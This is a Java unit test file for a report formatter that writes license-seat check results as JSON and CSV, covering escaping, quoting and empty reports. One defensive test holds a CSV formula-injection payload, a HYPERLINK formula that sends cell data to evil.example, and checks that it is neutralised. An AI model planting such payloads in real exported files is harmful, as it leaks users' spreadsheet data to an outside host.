package io.humaans.checks;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ReportFormatTest {
  private static Report smallReport() {
    return smallReport(Map.of());
  }

  private static Report smallReport(Map<String, String> unreadableSystems) {
    Map<Status, Integer> counts = new EnumMap<>(Status.class);
    for (Status s : Status.values()) {
      counts.put(s, 0);
    }
    counts.put(Status.FAIL, 1);
    counts.put(Status.PASS, 1);
    return Report.builder()
        .asOf(LocalDate.of(2026, 11, 23))
        .partial(true)
        .scopes(List.of("public:read"))
        .inputs(
            InputSizes.builder()
                .people(2)
                .jobRoles(1)
                .jobRolesWithoutPerson(0)
                .accounts(0)
                .seats(1)
                .events(0)
                .policies(0)
                .waivers(0)
                .accountLinks(0)
                .putAllUnreadableSystems(unreadableSystems)
                .build())
        .addChecks(
            CheckOutcome.builder()
                .checkId("reclaimable-seats")
                .title("Reclaimable seats")
                .subjectType("seat")
                .status(Status.FAIL)
                .counts(counts)
                .total(2)
                .addMissingScopes("private:read")
                .build())
        .putReclaimableSeatsByProduct("Figma", 1)
        .addResults(
            CheckResult.builder()
                .checkId("reclaimable-seats")
                .subjectType("seat")
                .subjectId("s,1")
                .status(Status.FAIL)
                .reasonCode("HOLDER_UNKNOWN")
                .detail("Say \"hi\"\nto Zoë, 東京")
                .putEvidence("product", "Figma")
                .putEvidence("email", "a\\b\t@x")
                .build())
        .addResults(
            CheckResult.builder()
                .checkId("reclaimable-seats")
                .subjectType("seat")
                .subjectId("s2")
                .label("figma ana@x.com")
                .status(Status.PASS)
                .reasonCode("OK")
                .detail("plain")
                .putEvidence("ctl", "\u0001")
                .build())
        .build();
  }

  @Test
  void jsonIsExactWithEscapesAndRawNonAscii() {
    String expected =
        "{\n"
            + "  \"asOf\": \"2026-11-23\",\n"
            + "  \"partial\": true,\n"
            + "  \"scopes\": [\"public:read\"],\n"
            + "  \"inputs\": {\"people\": 2, \"jobRoles\": 1, \"jobRolesWithoutPerson\": 0, \"accounts\": 0,"
            + " \"seats\": 1, \"events\": 0, \"policies\": 0, \"waivers\": 0, \"accountLinks\": 0,"
            + " \"unreadableSystems\": {}},\n"
            + "  \"checks\": [\n"
            + "    {\"checkId\": \"reclaimable-seats\", \"title\": \"Reclaimable seats\", \"subjectType\": \"seat\","
            + " \"status\": \"FAIL\", \"total\": 2, \"counts\": {\"PASS\": 1, \"FAIL\": 1, \"EXEMPT\": 0, \"WAIVED\": 0,"
            + " \"NOT_APPLICABLE\": 0, \"INCOMPLETE\": 0}, \"missingScopes\": [\"private:read\"]}\n"
            + "  ],\n"
            + "  \"reclaimableSeatsByProduct\": {\"Figma\": 1},\n"
            + "  \"results\": [\n"
            + "    {\"checkId\": \"reclaimable-seats\", \"subjectType\": \"seat\", \"subjectId\": \"s,1\","
            + " \"label\": \"s,1\", \"status\": \"FAIL\", \"reasonCode\": \"HOLDER_UNKNOWN\", \"detail\": \"Say \\\"hi\\\"\\nto Zoë, 東京\","
            + " \"evidence\": {\"product\": \"Figma\", \"email\": \"a\\\\b\\t@x\"}},\n"
            + "    {\"checkId\": \"reclaimable-seats\", \"subjectType\": \"seat\", \"subjectId\": \"s2\","
            + " \"label\": \"figma ana@x.com\", \"status\": \"PASS\", \"reasonCode\": \"OK\", \"detail\": \"plain\", \"evidence\": {\"ctl\": \"\\u0001\"}}\n"
            + "  ]\n"
            + "}\n";
    assertThat(smallReport().toJson()).isEqualTo(expected);
  }

  @Test
  void csvIsExactWithRfc4180Quoting() {
    String expected =
        "checkId,subjectType,subjectId,status,reasonCode,detail,evidence,label\n"
            + "reclaimable-seats,seat,\"s,1\",FAIL,HOLDER_UNKNOWN,\"Say \"\"hi\"\"\nto Zoë, 東京\","
            + "product=Figma; email=a\\b\t@x,\"s,1\"\n"
            + "reclaimable-seats,seat,s2,PASS,OK,plain,ctl=\u0001,figma ana@x.com\n";
    assertThat(smallReport().toCsv()).isEqualTo(expected);
  }

  private static CheckResult seat(String subjectId, String label) {
    return CheckResult.builder()
        .checkId("reclaimable-seats")
        .subjectType("seat")
        .subjectId(subjectId)
        .label(label)
        .status(Status.FAIL)
        .reasonCode("HOLDER_UNKNOWN")
        .detail("x")
        .putEvidence("email", "=1+1")
        .build();
  }

  @Test
  void csvFieldsThatASpreadsheetWouldRunAsFormulasStartWithAnApostrophe() {
    Report report =
        Report.builder()
            .asOf(LocalDate.of(2026, 11, 23))
            .partial(false)
            .inputs(smallReport().inputs())
            .addResults(
                seat("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"),
                seat("+1", "-2+3"),
                seat("\t=1", "\r=1"),
                seat("a=1", " =1"))
            .build();

    assertThat(report.toCsv())
        .isEqualTo(
            ReportCsv.HEADER
                + "\n"
                + "reclaimable-seats,seat,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","
                + "FAIL,HOLDER_UNKNOWN,x,email==1+1,'@SUM(A1:A9)\n"
                + "reclaimable-seats,seat,'+1,FAIL,HOLDER_UNKNOWN,x,email==1+1,'-2+3\n"
                + "reclaimable-seats,seat,'\t=1,FAIL,HOLDER_UNKNOWN,x,email==1+1,\"'\r=1\"\n"
                + "reclaimable-seats,seat,a=1,FAIL,HOLDER_UNKNOWN,x,email==1+1, =1\n");
    assertThat(report.toJson()).contains("\"subjectId\": \"+1\", \"label\": \"-2+3\"");
  }

  @Test
  void emptyReportHasEmptyArraysAndNullScopes() {
    Report empty =
        Checks.run(
            List.of(),
            CheckContext.of(
                CheckInput.builder()
                    .directory(io.humaans.checks.model.Directory.builder().build())
                    .build(),
                CheckConfig.builder().asOf(LocalDate.of(2026, 1, 1)).build()));
    assertThat(empty.toJson())
        .contains("\"scopes\": null,")
        .contains("\"checks\": [],\n")
        .endsWith("\"reclaimableSeatsByProduct\": {},\n  \"results\": []\n}\n");
    assertThat(empty.toCsv())
        .isEqualTo("checkId,subjectType,subjectId,status,reasonCode,detail,evidence,label\n");
  }

  @Test
  void unreadableSystemsAreListedInTheInputsSortedAndEscaped() {
    Map<String, String> unread = new java.util.LinkedHashMap<>();
    unread.put("okta", "no \"export\"");
    unread.put("humaans", "403");
    Report report = smallReport(unread);
    assertThat(report.toJson())
        .contains(
            "\"accountLinks\": 0, \"unreadableSystems\":"
                + " {\"humaans\": \"403\", \"okta\": \"no \\\"export\\\"\"}},\n");
  }

  @Test
  void aCheckThatJudgedNothingIsNotApplicable() {
    Report report =
        Checks.run(
            List.of(new io.humaans.checks.rules.ReclaimableSeatsCheck()),
            CheckContext.of(
                CheckInput.builder()
                    .directory(io.humaans.checks.model.Directory.builder().build())
                    .build(),
                CheckConfig.builder().asOf(LocalDate.of(2026, 1, 1)).build()));
    assertThat(report.toJson())
        .contains(
            "\n    {\"checkId\": \"reclaimable-seats\", \"title\":"
                + " \"Reclaimable seats\", \"subjectType\": \"seat\", \"status\": \"NOT_APPLICABLE\","
                + " \"total\": 0, \"counts\": {\"PASS\": 0, \"FAIL\": 0, \"EXEMPT\": 0, \"WAIVED\": 0,"
                + " \"NOT_APPLICABLE\": 0, \"INCOMPLETE\": 0}, \"missingScopes\": []}\n");
    assertThat(report.toCsv()).isEqualTo(ReportCsv.HEADER + "\n");
  }

  @Test
  void writeJsonStreamsTheSameText() {
    StringBuilder out = new StringBuilder();
    smallReport().writeJson(out);
    assertThat(out.toString()).isEqualTo(smallReport().toJson());
  }
}
